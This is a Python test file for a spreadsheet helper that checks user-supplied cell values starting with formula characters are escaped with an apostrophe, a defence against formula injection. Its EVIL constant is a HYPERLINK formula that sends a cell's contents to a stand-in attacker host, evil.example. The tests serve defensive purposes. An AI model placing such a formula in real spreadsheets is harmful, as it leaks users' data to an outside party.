"""Cells written from user data are shown as text and never evaluated as formulas (OWASP)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from motcua.core.spreadsheets import text_cell, text_row

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("value", [EVIL, "+84912", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(value):
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "a=b", "", 0, 12, 1.5, None])
def test_other_values_are_left_as_they_are(value):
    assert text_cell(value) == value


def test_a_workbook_keeps_the_cell_as_text():
    book = Workbook()
    book.active.append(text_row([1, EVIL]))
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["B1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + EVIL
